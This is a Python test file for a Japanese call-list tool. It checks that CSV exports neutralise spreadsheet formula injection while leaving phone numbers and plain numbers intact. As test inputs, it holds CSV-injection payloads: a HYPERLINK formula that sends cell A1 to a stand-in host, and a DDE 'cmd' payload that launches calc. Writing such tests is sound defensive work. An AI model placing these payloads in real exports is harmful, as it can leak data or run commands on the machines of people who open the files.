"""Issue 26 part A: compliance data fails closed, nothing vanishes without a reject, no formula reaches a
spreadsheet. Every export here is written by the test (Japanese data, CP932 where a cart would use it)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

from sqlmodel import Session, select

from dialer.outcomes import export_csv
from dialer.store.db import get_engine
from dialer.store.models import Disposition
from dialer.views.report_view import write_report_csv
from dialer.voc import write_csv as write_voc_csv
from lists.csvsafe import safe_cell
from tests.lists_util import AS_OF, build, customer, line, order, read_csv, write_export
from tests.test_reports import NOW, build_store

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"詳細\")", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
        "\t=1+1", "\r=1+1"]


def ago(n: int) -> str:
    return (AS_OF - timedelta(days=n)).isoformat()


def _is_escaped(cell: str, raw: str) -> bool:
    return cell == "'" + raw


# --- no formula reaches a spreadsheet ---------------------------------------------------------------------


def test_safe_cell_rule() -> None:
    for raw in EVIL:
        assert safe_cell(raw) == "'" + raw
    # numbers and E.164 numbers stay usable; numbers as numbers are not text; ordinary Japanese text unchanged
    for keep in ("+819012345678", "+819012345678;+81312345678", "-500", "-1.5", "+3", "山田 太郎", "", "'=x"):
        assert safe_cell(keep) == keep
    assert safe_cell(-500) == -500 and safe_cell(None) is None
    assert safe_cell("+81-90-1234") == "'+81-90-1234"  # not a bare number: a spreadsheet would compute it


def test_call_list_rejects_and_excel_file_escape_formulas(tmp_path: Path) -> None:
    evil = EVIL[:-1]  # a leading CR is read back as a line feed by the loader's CSV pass: the unit test covers it
    custs = [customer(f"C{i}", f"090-3100-{i:04d}", name=raw) for i, raw in enumerate(evil)]
    custs.append(customer("=C9", "090-3100-0099", name="山田 花子"))
    orders = [order(f"O{i}", c["customer_id"], ago(200)) for i, c in enumerate(custs)]
    lines = [line(f"O{i}", "REG-A") for i in range(len(custs))]
    d = write_export(tmp_path / "in", customers=custs, orders=orders, order_lines=lines)
    # a bad cell whose raw value is a formula lands in rejects.csv: escaped there too
    with (d / "customers.csv").open("a", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerow(["C77", "x", "", "090-3100-0077", "", "", "", "=1+cmd|x", "1", "0", "0"])
    with build(d, tmp_path / "out") as r:
        assert r.summary["entries"]["dormant"] == len(custs)
    rows = read_csv(tmp_path / "out" / "call_list.csv")
    by_phone = {row["phone_e164"]: row for row in rows}
    for i, raw in enumerate(evil):
        row = by_phone[f"+81903100{i:04d}"]
        assert _is_escaped(row["name"], raw), row
        assert row["phones"] == row["phone_e164"]  # E.164 kept as is
        assert not row["phone_e164"].startswith("'")
    assert by_phone["+819031000099"]["customer_id"] == "'=C9"
    rej = read_csv(tmp_path / "out" / "rejects.csv")
    bad = [x for x in rej if x["line"] == str(len(custs) + 2) and x["column"] == "created_at"]
    assert bad and bad[0]["value"] == "'=1+cmd|x"
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) and not v.startswith("+81")
                   for x in rej for v in x.values()), rej


def test_excel_cp932_call_list_is_escaped(tmp_path: Path) -> None:
    from lists import ListSettings

    custs = [customer("C1", "090-3200-0001", name="=HYPERLINK(\"http://x\",\"髙橋\")")]
    d = write_export(tmp_path / "in", customers=custs, orders=[order("O1", "C1", ago(200))],
                     order_lines=[line("O1", "REG-A")])
    with build(d, tmp_path / "out", settings=ListSettings(csv_encoding="cp932")):
        pass
    text = (tmp_path / "out" / "call_list.csv").read_bytes().decode("cp932")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'=HYPERLINK(\"http://x\",\"髙橋\")"


def test_outcomes_export_escapes_voc_text(db_url: str) -> None:
    build_store(db_url)
    eng = get_engine(db_url)
    with Session(eng) as s:
        d = s.exec(select(Disposition).order_by(Disposition.id.desc())).first()  # type: ignore[union-attr]
        assert d is not None
        d.voc_text = "=HYPERLINK(\"http://x.example\",\"もう電話しないで\")"
        s.add(d)
        s.commit()
    buf = io.StringIO()
    export_csv(eng, NOW - timedelta(days=400), buf)
    texts = [r["voc_text"] for r in csv.DictReader(io.StringIO(buf.getvalue()))]
    assert "'=HYPERLINK(\"http://x.example\",\"もう電話しないで\")" in texts
    assert not any(t.startswith("=") for t in texts)


def test_voc_and_report_csv_escape_text_but_not_numbers() -> None:
    buf = io.StringIO()
    write_voc_csv({"counts": [{"kind": "refused", "week": "2026-W48", "segment": "dormant", "product": "@SUM(1)",
                               "reason": "+cmd|x", "count": 3}],
                   "themes": [{"product": "A", "reason": "r", "count": 2, "keywords": ["価格"],
                               "examples": ["=1+1 高い"]}], "rising": []}, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert rows[0]["product"] == "'@SUM(1)" and rows[0]["reason"] == "'+cmd|x" and rows[0]["count"] == "3"
    assert rows[1]["examples"] == "'=1+1 高い"
    seg = {"attempts": 1, "answered": 1, "abandoned": 0, "abandon_rate": None, "hit_rate": 0.5,
           "connected_to_agent": 1, "sales": 0, "revenue": -500.0, "penetration": {}}
    buf = io.StringIO()
    write_report_csv({"by_segment": {"=evil": seg}, "penetration": {}, **seg}, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert rows[0]["segment"] == "'=evil" and rows[0]["revenue"] == "-500"
